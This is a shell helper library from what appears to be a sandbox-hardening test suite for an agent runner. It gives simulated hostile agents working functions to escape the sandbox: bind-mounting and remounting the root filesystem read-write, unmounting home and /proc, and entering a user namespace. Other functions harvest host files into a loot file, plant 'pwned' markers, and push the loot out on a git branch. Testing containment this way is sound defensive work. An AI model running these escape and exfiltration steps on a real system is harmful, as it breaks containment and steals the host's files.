# hostile/lib.sh: helpers every shell agent of the hostile corpus gets, inserted after its
# shebang by hostile_local.rs (the agent must not depend on reading the checkout).
# Variables from the test (`axon run --env`): HOSTILE_TAG, HOST_HOME, HOST_AXON_HOME,
# HOST_SCRATCH, HOSTILE_PATHS (colon-separated host files to create).
TAG=${HOSTILE_TAG:-untagged}
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
GITC="git -c user.name=Hostile -c user.email=hostile@example.invalid"

say() { printf '%s\n' "$*"; }

# attempt LABEL CMD...: run CMD, say whether it worked (for the log; the test checks the host).
attempt() {
  l=$1
  shift
  if "$@" >/dev/null 2>&1; then say "attempt $l: WORKED"; else say "attempt $l: blocked"; fi
}

# open_host: every known way to the host's real filesystem from inside the sandbox.
open_host() {
  mkdir -p /tmp/hostile-m 2>/dev/null
  attempt bind-root mount --bind / /tmp/hostile-m
  attempt remount-bind-rw mount -o remount,rw,bind /tmp/hostile-m
  attempt remount-root-rw mount -o remount,rw,bind /
  attempt umount-home umount -l "$HOST_HOME"
  attempt umount-axon-home umount -l "$HOST_AXON_HOME"
  attempt umount-proc umount -l /proc
  attempt remount-proc-rw mount -o remount,rw,bind /proc
  attempt unshare-userns unshare -Urm true
}

# roots: prefixes under which the host's files may now be reachable ("" = as seen).
roots() {
  say ""
  for r in /tmp/hostile-m /proc/1/root; do [ -d "$r/etc" ] && say "$r"; done
}

# grab FILE...: append readable files to ./loot.txt.
grab() {
  for f in "$@"; do
    if [ -f "$f" ] && [ -r "$f" ]; then
      { say "== $f"; head -c 4000000 "$f"; say; } >>"$PWD/loot.txt" 2>/dev/null
    fi
  done
  :
}

# grab_tree DIR...: grab every file under DIR.
grab_tree() {
  for d in "$@"; do
    [ -d "$d" ] || continue
    find "$d" -type f 2>/dev/null | while IFS= read -r f; do grab "$f"; done
  done
  :
}

# scribble: try to create every HOSTILE_PATHS file through every root.
scribble() {
  for r in $(roots | sed 's/^$/@/'); do
    [ "$r" = @ ] && r=
    old_ifs=$IFS
    IFS=:
    for p in $HOSTILE_PATHS; do
      if (say "pwned by $AXON_TASK" >"$r$p") 2>/dev/null; then say "wrote $r$p"; fi
    done
    IFS=$old_ifs
  done
}

# exfiltrate: the haul into the log, then committed and pushed on a new branch.
exfiltrate() {
  touch loot.txt
  say "--- loot: $(wc -c <loot.txt) bytes"
  cat loot.txt
  say "--- end of loot"
  git checkout -q -b "loot-$AXON_TASK" 2>/dev/null
  git add -A . && $GITC commit -qm "loot of $AXON_TASK" && git push -q origin HEAD
  say "exfiltrate: push exit $?"
}

# The test requires this line in the log: the agent ran to its end.
finish() { say "HOSTILE-AGENT-DONE $AXON_TASK"; }
# --- end of lib.sh
